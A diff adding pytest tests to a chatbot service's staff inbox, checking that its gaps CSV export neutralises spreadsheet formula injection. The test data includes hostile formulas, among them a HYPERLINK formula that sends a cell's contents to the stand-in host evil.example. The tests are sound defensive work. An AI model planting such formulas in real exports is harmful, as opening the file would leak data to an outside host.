@@ -83,3 +83,53 @@ def test_rasa_api_secret_is_not_visible_and_the_inbox_credential_cannot_change_t
     assert httpx.put(f"{base}/model", json={"model_file": "/tmp/x.tar.gz"}, headers=forged,
                      timeout=30).status_code == 401
 
+
+# -- the staff inbox (TestClient over a tiny index) -------------------------------------------------
+STAFF = "staff-token-0123456789"
+
+
+@pytest.fixture
+def inbox_app(tiny_index, fake_embedder, tmp_path):
+    from fastapi.testclient import TestClient
+
+    from index.search import SearchEngine
+    from service.app import create_app
+    from service.settings import ServiceSettings
+
+    def make(**overrides):
+        settings = ServiceSettings(**{**tiny_index.model_dump(), "inbox_db": tmp_path / "inbox.sqlite3",
+                                      "inbox_token": STAFF, "rasa_url": "http://127.0.0.1:9", **overrides})
+        app = create_app(settings, engine_factory=lambda: SearchEngine.load(settings, fake_embedder))
+        return TestClient(app), settings
+
+    return make
+
+
+def bearer(token: str = STAFF) -> dict:
+    return {"Authorization": f"Bearer {token}"}
+
+
+# -- 2. CSV formula injection ----------------------------------------------------------------------
+def test_gaps_csv_neutralises_formulas(inbox_app):
+    import csv
+    import io
+
+    from assistant.inbox import Inbox
+
+    client, settings = inbox_app()
+    inbox = Inbox(settings.inbox_db)
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"klicka")', "+1+1", "-2+3", "@SUM(A1:A9)"]
+    for q in hostile:
+        inbox.add_feedback("web:x", "bad", q, [])
+    inbox.add_unanswered("web:x", "Vad gäller för = tecken?", "sv", None, None)
+    with client:
+        r = client.get("/api/inbox/gaps.csv", headers=bearer())
+    assert r.status_code == 200
+    rows = list(csv.reader(io.StringIO(r.text)))
+    questions = {row[1] for row in rows[1:]}
+    assert questions >= {"'" + q for q in hostile}
+    assert "Vad gäller för = tecken?" in questions  # ordinary text stays as it was
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
+    from service.staff import csv_cell
+
+    assert csv_cell("\t=1+1") == "'\t=1+1" and csv_cell("\rx") == "'\rx" and csv_cell(3) == 3
